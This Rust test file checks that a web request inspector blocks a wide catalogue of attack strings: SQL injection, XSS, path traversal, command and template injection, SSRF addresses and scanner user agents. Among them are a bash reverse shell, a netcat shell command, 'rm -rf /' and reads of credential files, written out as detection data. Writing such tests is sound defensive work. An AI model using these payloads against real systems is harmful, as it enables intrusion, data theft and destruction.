//! What is found.

use forge_monitor::{Inspector, Level, Verdict};

use crate::{all_found, of_target, of_value};

#[test]
fn finds_sql() {
    all_found(
        "sql_injection",
        &[
            "1' or '1'='1",
            "x\" or \"a\"=\"a",
            "admin'--",
            "admin' #",
            "1 or 1=1",
            "7) and 3=3--",
            "1' in boolean mode) union all select null#",
            "-5 union/**/all/*!50000select*/ 1,2,3",
            "1;waitfor delay '0:0:9'--",
            "5' and sleep(3) and 'q'='q",
            "1 and 7=(select 7 from pg_sleep(4))",
            "1' order by 12-- -",
            "1 group by 1,2 having 5=5",
            "1' procedure analyse(extractvalue(1,concat(0x5c,version())),1)#",
            "'; drop table users; --",
            "1; exec xp_cmdshell('dir')",
            "' union select load_file('/x')-- ",
            "1' into outfile '/var/www/a.php'-- ",
            "(select case when 2=3 then 1 else 1/(select 0) end)",
            "chr(65)||chr(66)||chr(67)",
            "1'||(select user from dual)||'",
            "select table_name from information_schema.tables",
            "1' && '1'='1",
            "' or true-- ",
            "0x31 or 0x1=0x1",
            "1`=`1` and `1`=`1",
            "INFORMATION_SCHEMA",
            "or 1=1",
            " or 3=3 -- -",
            "and x=x#",
            "having 4=4--",
            "order by 7-- -",
            "or true--",
            "1or1=1",
            "x'+or+length(a)>2--+-",
            "$$ order by 4",
            "x$$; select pg_sleep(3)--",
            "1' and mod(4,3) order by 2-- -",
            "1' div 2",
            "a') collate b-- -",
            "x') in (1,2)#",
            "1';attach database 'x' as y--",
            "5 and name like '%a%'",
            "5 or name is not null",
            "a or mid(user(),1,1)='r'",
            "'||utl_http.request",
            r"\x27 or 1=1--",
            "&apos; or 1=1--",
            "(select top 1",
        ],
    );
}

#[test]
fn finds_operators_of_document_databases() {
    for target in [
        "/find?q=1,%20$where:%20'1%20==%201'",
        "/login?user[$ne]=x&password[$gt]=",
        "/find?q=%7B%22$where%22:%22sleep(1)%22%7D",
    ] {
        assert_eq!(
            of_target(target).verdict(Level::Low),
            Verdict::Block,
            "{target}"
        );
    }
}

#[test]
fn finds_script() {
    all_found(
        "xss",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//h/x>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=confirm`1`>",
            "' onmouseover=alert(1) x='",
            "java\tscript:alert(1)",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<iframe src=//h></iframe>",
            "<div style=\"width:expression(alert(1))\">",
            "\";alert(1);//",
            "'-confirm(document.cookie)-'",
            "<math><mi xlink:href=data:x>",
            "\\x3cscript\\x3ealert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "[][(![]+[])[+[]]]",
            "+ADw-script+AD4-",
            "</script><b>",
            "[1].find(alert)",
            "a=alert,a(1)",
            "confirm.call(null,1)",
            "onerror=alert;throw 1",
            "`${alert``}`",
            "top[8680439..toString(30)](1)",
            r"[]['\146\151\154\164\145\162']['\143\157\156\163\164\162\165\143\164\157\162']('x')()",
            "data:application/javascript,alert(1)",
            "<imgsrc=x>",
            "x.then(e=>eval(e.data))",
            "import('//h/x.js')",
            r"\74script\76alert(1)",
            "<\u{17f}cript src=//h>",
            "\"o<x>nfocus=alert<x>(1)//",
            "<div v-html='x'></div>",
            "<a @click=x>y</a>",
            "<a href=\"//h/x\">x</a>",
        ],
    );
}

#[test]
fn finds_paths() {
    all_found(
        "path_traversal",
        &[
            "../../../../etc/passwd",
            "..\\..\\boot.ini",
            "....//....//etc/hosts",
            "/etc/shadow",
            "c:\\windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/hosts",
            "/proc/self/environ",
            "../../x.png\0.jpg",
            "/var/www/html/wp-config.php",
            "/etc/any.thing",
            "/opt/any/httpd.conf",
            "x.php::$DATA",
            "\u{ff0e}\u{ff0e}\u{2216}\u{ff0e}\u{ff0e}\u{2216}windows",
        ],
    );
    for target in [
        "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/?f=..%252f..%252fetc%252fpasswd",
        "/?f=..%c0%af..%c0%afetc/passwd",
        "/?f=%uff0e%uff0e/%uff0e%uff0e/x",
        "/.git/config",
        "/.env",
    ] {
        assert_eq!(
            of_target(target).verdict(Level::Low),
            Verdict::Block,
            "{target}"
        );
    }
}

#[test]
fn finds_commands() {
    all_found(
        "command_injection",
        &[
            ";id",
            "| cat /etc/hostname",
            "a && whoami",
            "`uname -a`",
            "$(curl http://h/x)",
            ";w'h'o\"am\"i",
            ";c\\at /tmp/x",
            "x;cat${IFS}/tmp/x",
            "() { :;}; echo x",
            "& ping -n 9 127.0.0.1 &",
            "127.0.0.1\nls -la",
            "{cat,/tmp/x}",
            "; powershell -enc SQBFAFgA",
            "for %a in (a,b) do x",
            "if not exist a.txt echo x",
            "| dir c:\\",
            "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "127.0.0.1\nenv",
            "1\r\nnslookup h",
            "'& net user",
            "x || echo y",
            "192.0.2.1 & ping h",
            "1 ; ps aux #",
            "`sleep 5`",
            "a`id`",
            "sudo id",
        ],
    );
}

/// Words around backticks make a text of a value, but a shell runs what is in them all the same.
#[test]
fn finds_commands_in_backticks_among_words() {
    all_found(
        "command_injection",
        &[
            "my name `sh /tmp/x`",
            "my name `rm -rf /`",
            "my name `rm -rf ~`",
            "my name `perl -e 'system(1)'`",
            "hello there `nc -e /bin/sh 192.0.2.1 4444`",
            "--name=\"ab cd `sh /x`\"",
            "[`sh /x`](https://example.org)",
            "hello there `ping 192.0.2.1`",
            "hello there `sleep 5`",
            "hello there `sudo cat /tmp/x` again",
            "hello there `bash</tmp/x`",
            "a name `sh /tmp/x```",
            "hi there \\` ` sh /x`",
        ],
    );
    let spaced = format!("my name `sh{}/tmp/x`", " ".repeat(600));
    all_found("command_injection", &[&spaced]);
    // What documentation has as well tells at the high level.
    for value in [
        "my name `wget h.example/x`",
        "my name `nc h 4444`",
        "my name `/usr/bin/id`",
        "see `chmod +x -R a` there",
    ] {
        let verdict = of_value(value).verdict(Level::High);
        assert_eq!(verdict, Verdict::Block, "{value}");
    }
}

/// A password has signs before a separator; what a program is given has them too.
#[test]
fn finds_commands_behind_signs() {
    all_found(
        "command_injection",
        &[
            "user,name;id",
            "user,name|sh",
            "x!ab;nc h 1",
            "x!ab;rm x",
            "x!ab|dig h",
            "ab!|cat flag",
            "{\"ab\":1};sh",
            "a-value-too-long-for-a-pass!word;id",
        ],
    );
}

/// `Something | Python` is a title; what a command says into an interpreter is none.
#[test]
fn finds_pipes_into_interpreters() {
    all_found(
        "command_injection",
        &[
            "reboot|bash",
            "touch x|bash",
            "echo reboot|bash",
            "x|bash",
            "foo|perl",
            "echo reboot | bash",
            "a; cat x | python",
            "yes x | zsh",
        ],
    );
}

#[test]
fn finds_code_and_lookups() {
    all_found(
        "code_injection",
        &[
            "${jndi:ldap://h/a}",
            "${${lower:j}${::-n}di:ldap://h/a}",
            "{{7*7}}",
            "{{constructor.constructor('x')()}}",
            "<%= 7*7 %>",
            "#{7*7}",
            "${T(java.lang.Runtime).getRuntime()}",
            "<?php system('x')",
            "O:8:\"stdClass\":0:{}",
            "class.module.classLoader.x",
            "__proto__[x]",
            "'.system('id').'",
            "'; return true; var x='a",
            "';d=new Date();do{c=new Date()}while(c-d<9);",
            "${${date:'j'}ndi:ldap://h}",
            "@(7*7)",
            "count(/child::node())",
            "db.any.drop()",
            ";print(md5('x'));//",
            "(system)('id')",
            "('sys'.'tem')('id')",
            "$_x['a'](1)",
            "curl_init()",
            "=cmd|'/c calc'!a1",
            "@sum(1)*cmd|'/c calc'!a1",
        ],
    );
}

#[test]
fn finds_headers_in_values() {
    all_found(
        "protocol",
        &[
            "x\r\nSet-Cookie: a=b",
            "x\nHTTP/1.1 200 OK",
            "x\r\nX-Any-Header: y",
            "x\r\nGET /y",
            "GET http://h/ HTTP/1.1",
            "*(|(mail=*))",
            "x)(&)",
            "\u{560a}\u{560d}set-cookie: a=b",
            "*)(uid=*))(|(uid=*",
        ],
    );
}

#[test]
fn finds_addresses_a_server_is_made_to_fetch() {
    all_found(
        "request_forgery",
        &[
            "http://169.254.169.254/latest/",
            "http://2130706433/",
            "http://127.1/",
            "http://0177.0.0.1/x",
            "http://[::ffff:127.0.0.1]/",
            "gopher://h:6379/_x",
            "http://192.0.2.7/x.php",
            "http://h.example/x.txt?",
        ],
    );
    let include = of_target("/x.php?_conf[path]=https://h.example");
    assert_eq!(include.verdict(Level::Low), Verdict::Block);
    let other = of_target("/x.php?next=https://h.example/path");
    assert_eq!(other.score(), 0);
}

#[test]
fn finds_scripts_by_the_names_of_uploads() {
    let upload = |name: &str, file: &str| {
        let headers = [(name.as_bytes(), file.as_bytes())];
        Inspector::new().inspect_text(b"/upload", headers)
    };
    for (name, file) in [
        ("X-Filename", "a.php"),
        ("x-file-name", "b.PHTML.."),
        ("x_filename", "c.php5"),
    ] {
        let verdict = upload(name, file).verdict(Level::Low);
        assert_eq!(verdict, Verdict::Block, "{file}");
    }
    assert_eq!(upload("x-filename", "photo.jpg").score(), 0);
    assert_eq!(upload("x-file", "a.php").score(), 0);
}

#[test]
fn finds_tools_by_their_names() {
    let of =
        |agent: &str| Inspector::new().inspect_text(b"/", [(&b"user-agent"[..], agent.as_bytes())]);
    for agent in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 Nikto/2.5",
        "nuclei - x",
    ] {
        assert_eq!(of(agent).verdict(Level::Low), Verdict::Block, "{agent}");
    }
    for agent in [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "curl/8.5.0",
        "Wget/1.21",
        "python-requests/2.31",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "WordPress/6.4; https://example.org",
        "kube-probe/1.29",
        "Prometheus/2.45.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)",
        "-",
        "",
    ] {
        assert_eq!(of(agent).score(), 0, "{agent}: {:?}", of(agent).matches());
    }
}
